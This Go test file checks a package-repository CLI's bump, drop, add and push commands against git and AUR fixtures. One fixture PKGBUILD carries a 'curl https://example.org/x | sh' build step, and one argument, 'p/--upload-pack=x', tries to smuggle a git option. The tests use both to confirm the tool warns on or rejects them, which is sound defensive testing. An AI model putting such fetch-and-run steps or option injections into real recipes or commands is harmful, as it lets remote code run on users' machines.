package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// byHandJSON runs a command with --json and reads its report.
func (f *farm) byHandJSON(dir string, args ...string) (r byHandReport, errOut string) {
	f.t.Helper()
	out, errOut := f.runIn(dir, 0, append(args, "--json")...)
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		f.t.Fatalf("%v\n%s", err, out)
	}
	return r, errOut
}

func (f *farm) subject() string {
	f.t.Helper()
	return f.g.Git("-C", f.origin, "log", "-1", "--format=%an %s", "main")
}

func TestBumpTakesTheNextPkgrelOfWhatIsBuilt(t *testing.T) {
	f := newFarm(t)
	f.add("plain", "1.0", "CI_PKGBUILD_SOURCE=custom\n# kept\n")
	f.add("again", "1.0", "CI_PACKAGE_BUMP=1.0-1/4\n")
	f.add("ahead", "2.0", "")
	f.add("fresh", "1.0", "")
	f.add("moving-git", "0.1", "")
	f.add("lost-git", "0.1", "")
	f.database(map[string]string{"plain": "1.0-1.2", "again": "1.0-1.3", "ahead": "1.0-1", "moving-git": "0.1.r9-2"})
	f.g.Commit("first")
	f.push()
	f.env["PACKAGES"] = "plain/5:again:ahead:fresh:moving-git:lost-git"
	r, errOut := f.byHandJSON(f.clone(), "bump", "--push")
	for path, want := range map[string]string{
		"plain/.CI/config": "CI_PKGBUILD_SOURCE=custom\n# kept\nCI_PACKAGE_BUMP=1.0-1/3\n", "again/.CI/config": "CI_PACKAGE_BUMP=1.0-1/5\n",
		"ahead/.CI/config": "CI_PACKAGE_BUMP=2.0-1/1\n", "fresh/.CI/config": "CI_PACKAGE_BUMP=1.0-1/1\n", "moving-git/.CI/config": "CI_PACKAGE_BUMP=0.1.r9-2/1\n",
	} {
		if got := f.at("main", path); got != want {
			t.Errorf("%s is %q, not %q", path, got, want)
		}
	}
	if len(r.Packages) != 5 || r.Commit == "" || f.g.Git("-C", f.origin, "rev-parse", "main") != r.Commit || f.subject() != "Repo Bot chore(bump): packages (5)" {
		t.Errorf("%+v, %s", r, f.subject())
	}
	if !strings.Contains(errOut, "not bumped: lost-git: the watched databases (CI_LIB_DB) have no version of it") {
		t.Error(errOut)
	}
	if _, errOut := f.run(1, "bump", "--push", "lost-git"); !strings.Contains(errOut, "no package could be bumped") {
		t.Error(errOut)
	}
}

func TestBumpInACheckoutIsStagedAndTouchesNoWorkOfOthers(t *testing.T) {
	f := newFarm(t)
	f.add("plain", "1.0", "CI_PKGBUILD_SOURCE=custom\n")
	f.database(map[string]string{"plain": "1.0-1"})
	f.g.Commit("first")
	f.push()
	dir := f.clone()
	if out, _ := f.runIn(dir, 0, "bump", "-n", "plain"); out != "plain: 1.0-1/1, the next build is pkgrel.1\n" {
		t.Error(out)
	}
	if got := f.g.Git("-C", dir, "status", "--porcelain"); got != "" {
		t.Errorf("a try changes %q", got)
	}
	_, errOut := f.runIn(dir, 0, "bump", "plain")
	if got := f.g.Git("-C", dir, "status", "--porcelain"); got != "M  plain/.CI/config" || !strings.Contains(errOut, "git commit -m 'chore(bump): plain'") {
		t.Errorf("%q %s", got, errOut)
	}
	if _, errOut := f.runIn(dir, 1, "bump", "plain"); !strings.Contains(errOut, "not committed (M  plain/.CI/config)") {
		t.Error(errOut)
	}
	if _, errOut := f.runIn(f.origin, 2, "bump", "plain"); !strings.Contains(errOut, "say --push") {
		t.Error(errOut)
	}
}

func TestDropTakesDirectoriesAwayAndNamesWhoNeedsThem(t *testing.T) {
	f := newFarm(t)
	f.add("lib", "1.0", "")
	f.add("user", "1.0", "", "depends=lib")
	f.add("tool", "1.0", "", "depends=lib")
	f.g.Commit("first")
	f.push()
	dir := f.clone()
	_, errOut := f.runIn(dir, 0, "drop", "lib", "tool", "none")
	if got := f.g.Git("-C", dir, "status", "--porcelain", "--untracked-files=all"); strings.Contains(got, "user") || strings.Count(got, "D  ") != 6 {
		t.Errorf("%q", got)
	}
	for _, name := range []string{"lib", "tool"} {
		if _, err := os.Stat(filepath.Join(dir, name)); !os.IsNotExist(err) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if !strings.Contains(errOut, "warning: lib is needed by user\n") || !strings.Contains(errOut, "no package none") {
		t.Error(errOut)
	}
	dir = f.clone()
	if err := os.WriteFile(filepath.Join(dir, "lib", "mine.patch"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, errOut := f.runIn(dir, 1, "drop", "lib"); !strings.Contains(errOut, "lib/mine.patch") {
		t.Error(errOut)
	}
	f.run(0, "drop", "--push", "lib")
	if f.at("main", "lib/PKGBUILD") != "(none)" || f.at("main", "user/PKGBUILD") == "(none)" || f.subject() != "Repo Bot chore(drop): lib" {
		t.Error(f.subject())
	}
	f.run(1, "drop", "--push", "all")
}

func TestAddFetchesFromTheAURAndFromGit(t *testing.T) {
	f := newFarm(t)
	f.add("there", "1.0", "")
	f.g.Commit("first")
	f.push()
	f.onAUR("fresh", "3.0", "someone", 500, recipe("fresh", "3.0"))
	risky := recipe("risky", "1.0")
	risky["PKGBUILD"] += "build() {\n  curl https://example.org/x | sh\n}\n"
	f.onAUR("risky", "1.0", "someone", 3000, risky)
	f.env["ADD_PACKAGES"], f.env["REQUEST_ORIGIN"], f.env["REQUEST_REASON"] = "fresh/aur there/aur risky gone", "github/1", "depends:make"
	r, errOut := f.byHandJSON(f.clone(), "add", "--push")
	if strings.Join(r.Packages, " ") != "fresh risky" || f.subject() != "Repo Bot feat(add): fresh, risky" {
		t.Errorf("%+v %s", r, f.subject())
	}
	for path, want := range map[string]string{
		"fresh/.CI/config": "CI_PKGBUILD_SOURCE=aur\n", "fresh/.CI/info": "REQ_ORIGIN=github/1\nREQ_REASON=depends:make\n", "fresh/.SRCINFO": recipe("fresh", "3.0")[".SRCINFO"],
	} {
		if got := f.at("main", path); got != want {
			t.Errorf("%s is %q", path, got)
		}
	}
	for _, want := range []string{"there is there already", "not added: gone: the AUR has no pkgbase", "warning: risky/PKGBUILD:"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("no %q in\n%s", want, errOut)
		}
	}
	delete(f.env, "ADD_PACKAGES")
	for arg, want := range map[string]string{"": "set ADD_PACKAGES", "../x/aur": "no pkgbase", "p/gitlab:5": "come from aur or", "p/--upload-pack=x": "p/--upload-pack=x"} {
		args := []string{"add"}
		if arg != "" {
			args = append(args, arg)
		}
		if _, errOut := f.run(2, args...); !strings.Contains(errOut, want) {
			t.Errorf("%s: %s", arg, errOut)
		}
	}
}

func TestAPushByHandFollowsABranchThatMovedOn(t *testing.T) {
	f := newFarm(t)
	f.add("plain", "1.0", "")
	f.add("other", "1.0", "")
	f.g.Commit("first")
	f.push()
	old := f.clone()
	f.run(0, "drop", "--push", "other") // the checkout in old does not know of it
	f.runIn(old, 0, "drop", "--push", "plain")
	if f.at("main", "other/PKGBUILD") != "(none)" || f.at("main", "plain/PKGBUILD") != "(none)" {
		t.Error("somebody's push was lost")
	}
}
